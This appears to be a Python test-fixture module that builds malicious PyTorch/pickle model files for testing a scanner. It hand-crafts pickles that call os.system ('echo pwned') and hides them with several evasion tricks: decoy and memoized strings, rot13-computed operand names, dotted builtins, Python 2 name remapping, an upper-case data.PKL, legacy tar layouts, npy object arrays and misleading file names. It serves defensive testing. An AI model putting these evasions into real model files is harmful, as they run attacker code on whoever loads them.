"""Hand-made pickle evasions (issue 12), built at test time: never committed as binaries.

Each builder writes one model directory that a weak scanner passes and torch.load(weights_only=
False) would run code from. The payload only ever says `echo pwned`; none of these files is ever
unpickled by the tests (torch's weights-only unpickler, which never calls a global outside its
allow-list, is the only loader used on them).

`build_all(root)` -> {name: directory}.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

import torch

PAYLOAD = "echo pwned"


def _u(text: str) -> bytes:  # SHORT_BINUNICODE
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _call_stack_global(prefix: bytes) -> bytes:
    """`prefix` leaves module and name on the stack; STACK_GLOBAL, call it with PAYLOAD."""
    return b"\x80\x04" + prefix + b"\x93" + _u(PAYLOAD) + b"\x85R."


def decoys_popped() -> bytes:
    # the real operands first, then decoy strings that are pushed and POPped: "the last two
    # strings seen" are collections/OrderedDict, the stack holds os/system
    return _call_stack_global(_u("os") + _u("system") + _u("collections") + b"0" + _u("OrderedDict") + b"0")


def decoys_through_memo() -> bytes:
    return _call_stack_global(_u("os") + b"\x94" + b"0" + _u("system") + b"\x94" + b"0"
                              + _u("torch") + b"\x94" + b"0" + _u("LongStorage") + b"\x94" + b"0"
                              + b"h\x00" + b"h\x01")


def computed_operands() -> bytes:
    # _codecs.encode is on torch's allow-list; rot13 turns the stored text into the real name
    def rot13(text: str) -> bytes:
        return b"c_codecs\nencode\n" + _u(text) + _u("rot13") + b"\x86R"
    return _call_stack_global(rot13("bf") + rot13("flfgrz"))


def dotted(name: str) -> bytes:
    return b"\x80\x04" + _u("builtins") + _u(name) + b"\x93" + _u("print(1)") + b"\x85R."


def python2_name(module: str, name: str, arg: str = PAYLOAD) -> bytes:
    # protocol 2 with fix_imports: find_class maps cPickle -> pickle, urllib2 -> urllib.request
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n" + b"X" + struct.pack("<I", len(arg)) + arg.encode() + b"\x85R."


def os_system() -> bytes:
    return b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD.encode() + b"\x85R."


def _torch_zip_bytes(state) -> bytes:
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


def torch_zip_with_upper_case_payload() -> bytes:
    """archive/data.PKL carries the payload; archive/decoy.pkl is a benign pickle."""
    source = zipfile.ZipFile(io.BytesIO(_torch_zip_bytes({"w": torch.ones(2)})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("/data.pkl"):
                prefix = info.filename[: -len("data.pkl")]
                target.writestr(prefix + "decoy.pkl", data)
                target.writestr(prefix + "data.PKL", b"\x80\x02}q\x00X\x01\x00\x00\x00xq\x01" + os_system()[2:-1] + b"s.")
            else:
                target.writestr(info, data)
    return out.getvalue()


def torch_zip_encrypted_flag() -> bytes:
    data = bytearray(_torch_zip_bytes({"w": torch.ones(2)}))
    # set bit 0 (encrypted) in every local and central header: the data is still plain
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(sig, start)) != -1:
            data[start + offset] |= 0x01
            start += 4
    return bytes(data)


def legacy_tar() -> bytes:
    """torch's legacy tar layout (torch.load tries tarfile first): the payload in member 'pickle'."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, payload in (("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                              ("pickle", os_system()),
                              ("storages", pickle.dumps(0, protocol=2)),
                              ("tensors", pickle.dumps(0, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def legacy_framed_sys_info() -> bytes:
    """The legacy five-pickle layout; sys_info is a framed protocol-4 pickle, the payload follows."""
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2),
             pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=4),
             os_system(), pickle.dumps([], protocol=2)]
    return b"".join(parts) + b"\x00" * 64


def npy_object_array() -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + os_system()


def _minimal_model_dir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    (path / "config.json").write_text(json.dumps({"model_type": "llama"}))
    return path


EVASIONS = {
    # name: (relative file path, builder)
    "stack_global_decoys_popped": ("pytorch_model.bin", decoys_popped),
    "stack_global_decoys_memo": ("pytorch_model.bin", decoys_through_memo),
    "stack_global_rot13_operands": ("pytorch_model.bin", computed_operands),
    "dotted_eval_call": ("pytorch_model.bin", lambda: dotted("eval.__call__")),
    "dotted_getattr_call": ("pytorch_model.bin", lambda: dotted("getattr.__call__")),
    "python2_cpickle_loads": ("pytorch_model.bin", lambda: python2_name("cPickle", "loads", "cos\nsystem\n.")),
    "python2_urllib2_urlopen": ("pytorch_model.bin", lambda: python2_name("urllib2", "urlopen", "http://example.invalid")),
    "zip_upper_case_data_pkl": ("pytorch_model.bin", torch_zip_with_upper_case_payload),
    "legacy_tar": ("pytorch_model.bin", legacy_tar),
    "legacy_framed_sys_info": ("pytorch_model.bin", legacy_framed_sys_info),
    "named_model_pth_tar": ("model.pth.tar", os_system),
    "named_weights_joblib": ("weights.joblib", os_system),
    "named_arrays_npy": ("arrays.npy", npy_object_array),
    "named_safetensors_bak": ("model.safetensors.bak", os_system),
    "named_checkpoint_pt_1": ("checkpoint.pt.1", os_system),
    "ten_folders_deep": ("/".join(f"d{i}" for i in range(10)) + "/model.pkl", os_system),
}

# Not evasions but files that crashed the first scanner: they must become findings.
CRASHERS = {
    "zip_encrypted_flag": ("pytorch_model.bin", torch_zip_encrypted_flag),
}


def build(root: Path, name: str) -> Path:
    rel, builder = {**EVASIONS, **CRASHERS}[name]
    directory = _minimal_model_dir(root / name)
    target = directory / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(builder())
    return directory


def build_all(root: Path) -> dict[str, Path]:
    return {name: build(root, name) for name in {**EVASIONS, **CRASHERS}}
